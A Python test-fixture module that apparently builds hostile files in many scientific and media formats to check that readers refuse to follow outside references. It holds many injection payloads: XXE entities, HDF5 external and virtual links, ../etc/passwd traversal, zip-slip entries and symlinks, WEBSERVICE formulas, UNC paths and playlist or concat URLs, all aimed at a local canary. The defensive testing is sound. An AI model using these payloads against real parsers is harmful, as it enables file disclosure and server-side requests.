"""Files that try to make their reader read other files, or call somebody.

Each is a function of the place: where secrets lie, and a port on which somebody listens. What the
secrets hold would be seen in whatever comes out: the word `TOKEN`, or numbers of whatever scale
that begin with the digits of `DIGITS`.
"""

import io
import os
import struct
import wave
import zipfile
from dataclasses import dataclass
from pathlib import Path

import bodies
import numpy as np
from samples import (
    eeg_bytes,
    fif_bytes,
    mne_info,
    polar_rows,
    polar_xlsx,
    repacked,
    saved_by_mne,
    snirf_bytes,
    vhdr_text,
    vmrk_text,
    xdf_chunk,
    xdf_header,
    xdf_samples,
)

TOKEN = "canary-7f3a91c0"  # noqa: S105 - a word to look for
DIGITS = 12345.0
N = 400


@dataclass(frozen=True)
class Place:
    """Where a hostile file lies (`own`), where secrets lie, and where somebody listens."""

    own: Path
    secret: Path
    port: int

    @property
    def url(self):
        return f"http://127.0.0.1:{self.port}/{TOKEN}"

    def up(self, name):
        """The way from the hostile file to a secret."""
        return os.path.relpath(self.secret / name, self.own)


def wav(rate=12345, n=2000):
    out = io.BytesIO()
    with wave.open(out, "wb") as file:
        file.setnchannels(1)
        file.setsampwidth(2)
        file.setframerate(rate)
        file.writeframes(np.full(n, 12345, "<i2").tobytes())
    return out.getvalue()


def secrets(folder):
    """Files of every kind that must not be read."""
    import h5py
    import mne

    folder.mkdir(exist_ok=True)
    values = np.full((4, N), DIGITS)
    (folder / "secret.txt").write_text(f"{TOKEN}\n" * 50)
    (folder / "secret.csv").write_text("x,y\n" + f"{DIGITS},{DIGITS}\n" * 50)
    (folder / "secret.f8").write_bytes(values.tobytes())
    (folder / "secret.i2").write_bytes(np.full((3, N), 12345, "<i2").tobytes())
    (folder / "secret.wav").write_bytes(wav())
    (folder / "secret.snirf").write_bytes(snirf_bytes(values, subject=TOKEN))
    (folder / "secret.vmrk").write_text(vmrk_text().replace("S  1", TOKEN))
    with h5py.File(folder / "secret.h5", "w") as file:
        file["x"] = values.T
    raw = mne.io.RawArray(np.full((3, N), DIGITS), mne_info(), verbose="ERROR")
    (folder / "secret_raw.fif").write_bytes(saved_by_mne(raw, "secret_raw.fif"))


def light_with(change):
    return snirf_bytes(change=change)


def relinked(path, made):
    """SNIRF in which one thing was put in another's place."""

    def build(place):
        def change(file):
            del file[path]
            made(file, place)

        return light_with(change)

    return build


def _external_link(path, target, inner):
    import h5py

    def put(file, place):
        file[path] = h5py.ExternalLink(target(place), inner)

    return relinked(path, put)


def _chain(file, place):
    import h5py

    file["elsewhere"] = h5py.ExternalLink(str(place.secret / "secret.snirf"), "/")
    file["nirs"] = h5py.SoftLink("/elsewhere/nirs")


def _external_storage(path, shape):
    def put(file, place):
        size = int(np.prod(shape)) * 8
        external = [(str(place.secret / "secret.f8"), 0, size)]
        file.create_dataset(path, shape, "f8", external=external)

    return relinked(path, put)


def _virtual(path, shape):
    import h5py

    def put(file, place):
        layout = h5py.VirtualLayout(shape, "f8")
        source = h5py.VirtualSource(str(place.secret / "secret.h5"), "x", (N, 4))
        layout[:] = source if len(shape) == 2 else source[:, 0]
        file.create_virtual_dataset(path, layout)

    return relinked(path, put)


def _plug_in(file, place):
    import h5py

    plan = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    plan.set_chunk((N, 4))
    plan.set_filter(32015, h5py.h5z.FLAG_OPTIONAL, (1,))
    space = h5py.h5s.create_simple((N, 4))
    group = file["nirs/data1"].id
    made = h5py.h5d.create(group, b"dataTimeSeries", h5py.h5t.NATIVE_DOUBLE, space, plan)
    made.write(h5py.h5s.ALL, h5py.h5s.ALL, np.ones((N, 4)))


SERIES, TIME = "nirs/data1/dataTimeSeries", "nirs/data1/time"
HDF5 = {
    "external-root": _external_link("nirs", lambda p: str(p.secret / "secret.snirf"), "/nirs"),
    "external-data": _external_link(SERIES, lambda p: str(p.secret / "secret.h5"), "/x"),
    "external-up": _external_link(SERIES, lambda p: p.up("secret.h5"), "/x"),
    "external-neighbor": _external_link(SERIES, lambda _: "neighbor.h5", "/x"),
    "soft-to-external": relinked("nirs", _chain),
    "storage-data": _external_storage(SERIES, (N, 4)),
    "storage-time": _external_storage(TIME, (N,)),
    "virtual-data": _virtual(SERIES, (N, 4)),
    "virtual-time": _virtual(TIME, (N,)),
    "plug-in-filter": relinked(SERIES, _plug_in),
}


def _header(data="wave.eeg", markers="wave.vmrk"):
    return lambda place: vhdr_text(data=data(place), markers=markers(place)).encode()


def _name(text):
    return lambda _place: text


EEG, MARKS = _name("wave.eeg"), _name("wave.vmrk")
BRAINVISION = {
    "data-up": _header(lambda p: p.up("secret.i2"), MARKS),
    "data-absolute": _header(lambda p: str(p.secret / "secret.i2"), MARKS),
    "data-passwd": _header(_name("../../../../../../../../etc/passwd"), MARKS),
    "data-link": _header(_name("link.eeg"), MARKS),
    "data-url": _header(lambda p: f"{p.url}.eeg", MARKS),
    "data-share": _header(_name(r"\\127.0.0.1\share\wave.eeg"), MARKS),
    "data-file-url": _header(lambda p: f"file://{p.secret}/secret.i2", MARKS),
    "markers-up": _header(EEG, lambda p: p.up("secret.vmrk")),
    "markers-link": _header(EEG, _name("link.vmrk")),
}


def goes_on_in(name):
    """A FIF file that says in which file it goes on."""

    def build(place):
        text = name(place).encode()
        tags = [
            (104, struct.pack(">i", 118)),
            (115, struct.pack(">i", 2)),
            (116, text),
            (117, struct.pack(">i", 1)),
            (105, struct.pack(">i", 118)),
        ]
        types = {104: 3, 115: 3, 116: 10, 117: 3, 105: 3}
        block = b"".join(struct.pack(">iiii", k, types[k], len(v), 0) + v for k, v in tags)
        content = fif_bytes()
        # After the tags that identify the file and lead to its directory.
        at = 36
        while struct.unpack_from(">i", content, at)[0] != 104:
            at += 16 + struct.unpack_from(">i", content, at + 8)[0]
        return content[:at] + block + content[at:]

    return build


FIF = {
    "next-up": goes_on_in(lambda p: p.up("secret_raw.fif")),
    "next-absolute": goes_on_in(lambda p: str(p.secret / "secret_raw.fif")),
    "next-neighbor": goes_on_in(_name("neighbor_raw.fif")),
}


def entities(place, body, *, kind="file"):
    """XML with an entity that stands for a file, or a document type from somewhere else."""
    target = f"file://{place.secret}/secret.txt" if kind == "file" else f"{place.url}.dtd"
    inside = {
        "file": f'<!ENTITY x SYSTEM "{target}">',
        "http": f'<!ENTITY x SYSTEM "{target}">',
        "parameter": f'<!ENTITY % p SYSTEM "{target}"> %p; <!ENTITY x "x">',
    }[kind]
    return f'<?xml version="1.0"?><!DOCTYPE r [{inside}]>{body}'


def xdf_with(kind):
    def build(place):
        head = xdf_header(1, "double64", channels=1, rate=10, labels=("LABEL",))
        xml = head[head.index(b"<info>") :].decode().replace("LABEL", "&x;")
        stream = xdf_chunk(2, struct.pack("<I", 1) + entities(place, xml, kind=kind).encode())
        first = xdf_chunk(1, b"<info><version>1.0</version></info>")
        samples = xdf_samples(1, [(100 + i / 10, [float(i)]) for i in range(50)])
        return b"XDF:" + first + stream + samples

    return build


XDF = {f"entity-{kind}": xdf_with(kind) for kind in ("file", "http", "parameter")}


def eaf(value="&x;", *, head="", resource=""):
    return (
        f'<ANNOTATION_DOCUMENT FORMAT="3.0"><HEADER TIME_UNITS="milliseconds">{head}</HEADER>'
        '<TIME_ORDER><TIME_SLOT TIME_SLOT_ID="a" TIME_VALUE="0"/>'
        '<TIME_SLOT TIME_SLOT_ID="b" TIME_VALUE="900"/></TIME_ORDER>'
        '<TIER TIER_ID="A"><ANNOTATION><ALIGNABLE_ANNOTATION ANNOTATION_ID="1" '
        f'TIME_SLOT_REF1="a" TIME_SLOT_REF2="b"><ANNOTATION_VALUE>{value}</ANNOTATION_VALUE>'
        f"</ALIGNABLE_ANNOTATION></ANNOTATION></TIER>{resource}</ANNOTATION_DOCUMENT>"
    )


def _eaf(kind):
    return lambda place: entities(place, eaf(), kind=kind).encode()


def _eaf_media(place):
    media = (
        f'<MEDIA_DESCRIPTOR MEDIA_URL="file://{place.secret}/secret.wav" MIME_TYPE="audio/x-wav" '
        f'RELATIVE_MEDIA_URL="{place.up("secret.wav")}"/><LINKED_FILE_DESCRIPTOR '
        f'LINK_URL="{place.url}.csv" MIME_TYPE="text/csv"/>'
    )
    return eaf("said", head=media).encode()


def _eaf_include(place):
    inside = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
        f'href="file://{place.secret}/secret.txt"/>'
    )
    return eaf(inside).encode()


def _eaf_vocabulary(place):
    other = f'<EXTERNAL_REF EXT_REF_ID="v" TYPE="ecv" VALUE="{place.url}.ecv"/>'
    return eaf("said", resource=other).encode()


ELAN = {
    **{f"entity-{kind}": _eaf(kind) for kind in ("file", "http", "parameter")},
    "media": _eaf_media,
    "include": _eaf_include,
    "vocabulary": _eaf_vocabulary,
}


def _book():
    return polar_xlsx(polar_rows([70 + i % 9 for i in range(60)]))


def _book_entity(place):
    strings = entities(place, "<sst><si><t>&x;</t></si></sst>")
    return repacked(_book(), sharedStrings=strings.encode())


def _book_sheet_entity(place):
    with zipfile.ZipFile(io.BytesIO(_book())) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    body = sheet[sheet.index("<worksheet") :].replace("<sheetData>", "&x;<sheetData>")
    return repacked(_book(), sheet1=entities(place, body).encode())


def _book_formula(place):
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(_book()))
    sheet = book.active
    sheet["E4"] = f'=WEBSERVICE("{place.url}")'
    sheet["F4"] = f"='file://{place.secret}/[secret.csv]secret'!A2"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _book_paths(place):
    """Entries that lead out of the folder, and one that is a link."""
    out = io.BytesIO(_book())
    with zipfile.ZipFile(out, "a") as book:
        book.writestr(place.up("secret.txt"), "overwritten")
        book.writestr(str(place.secret / "secret.csv"), "overwritten")
        link = zipfile.ZipInfo("xl/link.xml")
        link.external_attr = 0o120777 << 16
        book.writestr(link, str(place.secret / "secret.txt"))
    return out.getvalue()


XLSX = {
    "entity-strings": _book_entity,
    "entity-sheet": _book_sheet_entity,
    "formula": _book_formula,
    "paths": _book_paths,
}


def _band_links(place):
    """A session of a wristband in which two tables are links to other files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in bodies.e4_tables().items():
            entry = zipfile.ZipInfo(name)
            if name in ("EDA.csv", "TEMP.csv"):
                entry.external_attr = 0o120777 << 16
                text = str(place.secret / "secret.csv")
            archive.writestr(entry, text)
    return out.getvalue()


def _band_paths(place):
    tables = bodies.e4_tables()
    eda = tables.pop("EDA.csv")
    return bodies.e4_zip(
        {place.up("EDA.csv"): eda, str(place.secret / "secret.csv"): eda, **tables}
    )


def _avro_elsewhere(_place):
    """A schema one of whose types is to be found somewhere else."""
    content = bodies.embrace_bytes()
    at = content.index(b'"long"')
    return content[:at] + b'"./up"' + content[at + 6 :]


def _edf_paths(place):
    """A header in whose fields addresses stand."""
    content = bytearray(bodies.edf_bytes())
    content[8:88] = f"file://{place.secret}/secret.txt"[:80].ljust(80).encode()
    content[88:168] = f"{place.url}"[:80].ljust(80).encode()
    return bytes(content)


BODIES = (
    ("empatica", "links.zip", _band_links),
    ("empatica", "paths.zip", _band_paths),
    ("embrace", "elsewhere.avro", _avro_elsewhere),
    ("edf", "paths.edf", _edf_paths),
)

TEXT = {
    "a.vtt": "WEBVTT\n\nSTYLE\n@import url({url}.css);\n\nNOTE file://{secret}/secret.txt\n\n"
    "00:00.000 --> 00:02.000\n<v A><img src='{url}.png'>said\n",
    "a.srt": "1\n00:00:00,000 --> 00:00:02,000\n<font face='file://{secret}/secret.txt'>A: said\n"
    "{\\img({url}.png)}\n\n2\n00:00:03,000 --> 00:00:04,000\n<a href='{url}'>B: yes</a>\n",
    "a.rttm": ";; INCLUDE {up}\nSPEAKER {up} 1 0.0 1.5 <NA> <NA> A <NA> <NA>\n"
    "SPEAKER {url} 1 2.0 1.5 <NA> <NA> B <NA> <NA>\n",
    "a.stm": ";; {url}\n{up} 1 A 0.0 1.5 said\n{up} 1 B 2.0 3.5 yes\n",
    "a.csv": 'time,x,"=WEBSERVICE(""{url}"")"\n'
    + "".join(f"{i / 10},{i % 7},{i % 5}\n" for i in range(60))
    + "# @import {up}\n",
    "a.textgrid": 'File type = "ooTextFile"\nObject class = "TextGrid"\n\nxmin = 0\nxmax = 2\n'
    'tiers? <exists>\nsize = 1\nitem []:\n    item [1]:\n        class = "IntervalTier"\n'
    '        name = "{up}"\n        xmin = 0\n        xmax = 2\n        intervals: size = 1\n'
    "        intervals [1]:\n            xmin = 0\n            xmax = 2\n"
    '            text = "<{url}> said"\n',
}


def text_of(name):
    def build(place):
        text = TEXT[name]
        for key, value in (
            ("{up}", place.up("secret.txt")), ("{url}", place.url), ("{secret}", str(place.secret)),
        ):  # fmt: skip
            text = text.replace(key, value)
        return text.encode()

    return build


HLS = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\n{}\n#EXT-X-ENDLIST\n"


def _mpd(place):
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" mediaPresentationDuration="PT5S">'
        f'<Period><BaseURL>{place.url}/</BaseURL><AdaptationSet mimeType="video/mp4">'
        '<Representation id="1" bandwidth="1" codecs="avc1"><SegmentTemplate media="$Number$.mp4" '
        'initialization="i.mp4" duration="5"/></Representation></AdaptationSet></Period></MPD>'
    ).encode()


def _sdp(place):
    return (
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
        f"m=audio {place.port} RTP/AVP 0\na=rtpmap:0 PCMU/8000\n"
    ).encode()


def film(codec="mpeg4", n=12):
    """A small MP4 whose index stands at its end."""
    import av

    out = io.BytesIO()
    with av.open(out, "w", format="mp4") as container:
        stream = container.add_stream(codec, rate=10)
        stream.width, stream.height, stream.pix_fmt = 64, 48, "yuv420p"
        for i in range(n):
            picture = np.full((48, 64, 3), 20 * i, np.uint8)
            for packet in stream.encode(av.VideoFrame.from_ndarray(picture, format="rgb24")):
                container.mux(packet)
        for packet in stream.encode():
            container.mux(packet)
    return out.getvalue()


def _film_elsewhere(place):
    """A film whose samples are said to lie in another file (an alias of QuickTime)."""
    content = bytearray(film())
    target = str(place.secret / "secret.wav").encode()
    alias = bytes(10) + bytes([0]) + bytes(27) + bytes(12)
    alias += bytes([10]) + b"secret.wav".ljust(63, b"\0") + bytes(16)
    alias += struct.pack(">hh", 1, 1) + bytes(16)
    alias += struct.pack(">hh", 18, len(target)) + target + bytes(len(target) % 2)
    alias += struct.pack(">hh", -1, 0)
    entry = struct.pack(">I4sI", 12 + len(alias), b"alis", 0) + alias
    at = content.index(b"dref") - 4
    old = struct.unpack_from(">I", content, at)[0]
    new = struct.pack(">I4sII", 16 + len(entry), b"dref", 0, 1) + entry
    content[at : at + old] = new
    for box in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
        head = content.index(box) - 4
        size = struct.unpack_from(">I", content, head)[0]
        struct.pack_into(">I", content, head, size + len(new) - old)
    return bytes(content)


def _playing(text):
    return lambda place: text(place).encode()


MEDIA = {
    "concat-neighbor.mp4": _playing(lambda _: "ffconcat version 1.0\nfile neighbor.wav\n"),
    "concat-up.mkv": _playing(lambda p: f"ffconcat version 1.0\nfile '{p.up('secret.wav')}'\n"),
    "concat-absolute.wav": _playing(
        lambda p: f"ffconcat version 1.0\nfile {p.secret}/secret.wav\n"
    ),
    "hls-http.mp4": _playing(lambda p: HLS.format(f"{p.url}.ts")),
    "hls-file.ts": _playing(lambda p: HLS.format(f"file://{p.secret}/secret.wav")),
    "hls-concat.avi": _playing(
        lambda p: HLS.format(f"concat:{p.url}|file://{p.secret}/secret.wav")
    ),
    "dash.mp4": _mpd,
    "session-description.mp4": _sdp,
    "picture.gif": _playing(
        lambda p: (
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
            f'<image xlink:href="{p.url}.png"/></svg>'
        )
    ),
    "elsewhere.mov": _film_elsewhere,
    "list.mp3": _playing(lambda p: f"#EXTM3U\n{p.secret}/secret.wav\n{p.url}.mp3\n"),
    "list.flac": _playing(lambda p: f"[playlist]\nFile1={p.url}.flac\nNumberOfEntries=1\n"),
    "script.avi": _playing(lambda p: f'WavSource("{p.secret}/secret.wav")\n'),
    "reference.asf": _playing(lambda p: f"[Reference]\nRef1={p.url}.asf\n"),
    "concat:neighbor.wav": lambda _: b"RIFF\0\0\0\0WAVE",
}


def every():
    """Name of each canary, its file's name, how it is made, and the readers that must read it."""
    groups = (
        ("snirf", "a.snirf", HDF5), ("brainvision", "a.vhdr", BRAINVISION),
        ("fif", "a_raw.fif", FIF), ("xdf", "a.xdf", XDF), ("elan", "a.eaf", ELAN),
        ("polar_team", "a.xlsx", XLSX),
    )  # fmt: skip
    for reader, file, made in groups:
        for name, build in made.items():
            yield f"{reader}: {name}", file, build, (reader,)
    readers = {".vtt": "vtt", ".srt": "srt", ".rttm": "rttm", ".stm": "stm", ".csv": "delimited",
               ".textgrid": "textgrid"}  # fmt: skip
    for file in TEXT:
        yield f"text: {file}", file, text_of(file), (readers[Path(file).suffix],)
    for reader, file, build in BODIES:
        yield f"{reader}: {file}", file, build, (reader,)
    for file, build in MEDIA.items():
        yield f"media: {file}", file, build, ("video", "audio")


def upload(place, file, content):
    """Write a hostile file with the neighbors and links that it may hope for."""
    place.own.mkdir(exist_ok=True)
    (place.own / "wave.eeg").write_bytes(eeg_bytes())
    (place.own / "wave.vmrk").write_text(vmrk_text(), encoding="utf-8")
    for name in ("wav", "h5", "_raw.fif"):
        dot = "" if name.startswith("_") else "."
        secret = place.secret / f"secret{dot}{name}"
        (place.own / f"neighbor{dot}{name}").write_bytes(secret.read_bytes())
    for link, target in (("link.eeg", "secret.i2"), ("link.vmrk", "secret.vmrk")):
        (place.own / link).unlink(missing_ok=True)
        (place.own / link).symlink_to(place.secret / target)
    (place.own / file).write_bytes(content)
    return place.own / file
